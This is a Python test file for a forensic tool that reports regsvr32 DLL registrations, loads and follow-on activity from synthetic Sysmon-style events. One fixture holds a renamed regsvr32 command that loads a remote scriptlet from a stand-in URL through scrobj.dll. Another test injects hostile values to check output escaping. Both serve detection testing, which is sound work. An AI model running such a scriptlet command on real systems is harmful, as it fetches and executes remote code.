"""`carhound stack dlls`: what regsvr32 was asked to register, what it loaded, and what followed."""

import csv
import io
from pathlib import Path

from .small_evidence import HOSTILE, UNSEEN, Fields, Run, process, write

REGSVR32 = r"C:\Windows\System32\regsvr32.exe"
CSV = ("stack", "dlls", "-q", "--exit-zero", "-f", "csv")
Row = dict[str, str]


def rows(carhound: Run, *records: Fields, folder: Path, words: tuple[str, ...] = ()) -> dict[str, Row]:
    write(folder / "a.jsonl", *records)
    said = carhound(*CSV, "a.jsonl", *words)
    assert said.returncode == 0, said.stderr
    found = list(csv.DictReader(io.StringIO(said.stdout)))
    return {row["file"]: row for row in found}


def start(number: int, command: str, **fields: object) -> Fields:
    defaults = {"Image": REGSVR32, "ProcessGuid": "{r}", "ParentImage": r"C:\Windows\System32\cmd.exe"}
    return process(number, **{**defaults, "CommandLine": command, **fields})


def deed(number: int, event: int, **fields: object) -> Fields:
    made = process(number, EventID=event, **{"Image": REGSVR32, "ProcessGuid": "{R}", **fields})
    return {name: value for name, value in made.items() if name not in ("ParentImage", "CommandLine")}


def test_one_row_with_all_there_is(tmp_path: Path, carhound: Run) -> None:
    found = rows(
        carhound,
        start(1, r"regsvr32 /s C:\App\a.dll"),
        deed(2, 7, ImageLoaded=r"c:\app\A.DLL", Signed="true", Signature="Contoso"),
        deed(3, 7, ImageLoaded=r"C:\Windows\System32\ole32.dll", Signed="false"),
        deed(4, 3, DestinationIp="192.0.2.1", DestinationPort="443"),
        deed(5, 22, QueryName="x.example"),
        process(6, ProcessGuid="{c}", ParentProcessGuid="{r}", Image=r"C:\Windows\System32\calc.exe"),
        process(7, ProcessGuid="{d}", ParentProcessGuid="{c}", ParentImage="calc.exe", Image="not.exe"),
        start(8, r"regsvr32 C:\App\a.dll", ProcessGuid="{s}", ParentImage=r"C:\wscript.exe", Hostname="W2"),
        folder=tmp_path,
    )
    assert list(found) == [r"C:\Windows\System32\ole32.dll", r"C:\App\a.dll"]
    followed = r"asked for x.example; connected to 192.0.2.1 port 443; started C:\Windows\System32\calc.exe"
    assert found[r"C:\App\a.dll"] == {
        "file": r"C:\App\a.dll",
        "asked": "2",
        "loaded": "1",
        "signed": "signed by Contoso",
        "asked_by": r"C:\Windows\System32\cmd.exe; C:\wscript.exe",
        "hosts": "2",
        "days": "1",
        "first": "2024-06-14T12:00:00Z",
        "last": "2024-06-14T12:00:00Z",
        "followed": followed,
    }
    assert found[r"C:\Windows\System32\ole32.dll"]["signed"] == "not signed"
    assert found[r"C:\Windows\System32\ole32.dll"]["followed"] == followed


def test_a_renamed_one_and_a_scriptlet(tmp_path: Path, carhound: Run) -> None:
    renamed = r"C:\Temp\u.exe"
    found = rows(
        carhound,
        start(1, "u.exe /i:http://x/y.sct scrobj.dll", Image=renamed, OriginalFileName="REGSVR32.EXE"),
        deed(2, 7, Image=renamed, ImageLoaded=r"C:\Windows\System32\scrobj.dll"),
        deed(3, 7, Image=renamed, ProcessGuid="{other}", ImageLoaded=r"C:\no.dll"),
        process(4, ProcessGuid="{c}", ParentProcessGuid="{R}", ParentImage=renamed, Image=r"C:\calc.exe"),
        folder=tmp_path,
    )
    assert found.keys() == {"http://x/y.sct", r"C:\Windows\System32\scrobj.dll"}
    assert found["http://x/y.sct"]["followed"] == r"started C:\calc.exe"


def test_the_twin_of_the_other_bitness_asks_nobody(tmp_path: Path, carhound: Run) -> None:
    twin = r"C:\Windows\SysWOW64\regsvr32.exe"
    found = rows(
        carhound,
        start(1, "regsvr32 a.ocx"),
        start(2, " a.ocx", Image=twin, ParentImage=REGSVR32, ProcessGuid="{t}", ParentProcessGuid="{r}"),
        folder=tmp_path,
    )
    assert (found["a.ocx"]["asked_by"], found["a.ocx"]["followed"]) == (r"C:\Windows\System32\cmd.exe", "")


def test_a_process_id_that_is_given_away_again(tmp_path: Path, carhound: Run) -> None:
    found = rows(
        carhound,
        start(1, "regsvr32 a.dll", ProcessGuid=None, ProcessId="7"),
        start(2, "regsvr32 b.dll", ProcessGuid=None, ProcessId="7"),
        process(3, ProcessId="8", ParentProcessId="7", Image=r"C:\calc.exe"),
        folder=tmp_path,
    )
    assert (found["a.dll"]["followed"], found["b.dll"]["followed"]) == ("", r"started C:\calc.exe")


def test_a_range_and_what_one_process_can_fill(tmp_path: Path, carhound: Run) -> None:
    found = rows(
        carhound,
        start(1, "regsvr32 old.dll", TimeCreated="2024-01-01T00:00:00Z", ProcessGuid="{o}"),
        start(2, "regsvr32 a.dll"),
        *(deed(3 + n, 22, QueryName=f"{n}.example") for n in range(50)),
        folder=tmp_path,
        words=("--earliest", "2024-06-01"),
    )
    assert found.keys() == {"a.dll"}
    assert found["a.dll"]["followed"].count("asked for") == 20
    assert found["a.dll"]["followed"].endswith("others") or "others;" in found["a.dll"]["followed"]


def test_hostile_values_are_escaped(tmp_path: Path, carhound: Run) -> None:
    write(tmp_path / "a.jsonl", start(1, f'regsvr32 "{HOSTILE}"', ParentImage=HOSTILE))
    for style in ("table", "csv", "jsonl"):
        out = carhound("stack", "dlls", "a.jsonl", "-f", style).stdout
        assert "formula" not in out
        assert not [one for one in UNSEEN if one in out]


def test_wrong_usage(tmp_path: Path, carhound: Run) -> None:
    write(tmp_path / "a.jsonl", process())
    ended = carhound("stack", "dlls", "a.jsonl", "--where", "EventCode=7")
    assert ended.returncode == 2
    assert "--where would change nothing" in ended.stderr
    quiet = carhound("stack", "dlls", "a.jsonl")
    assert quiet.returncode == 0  # a child of regsvr32 is no file
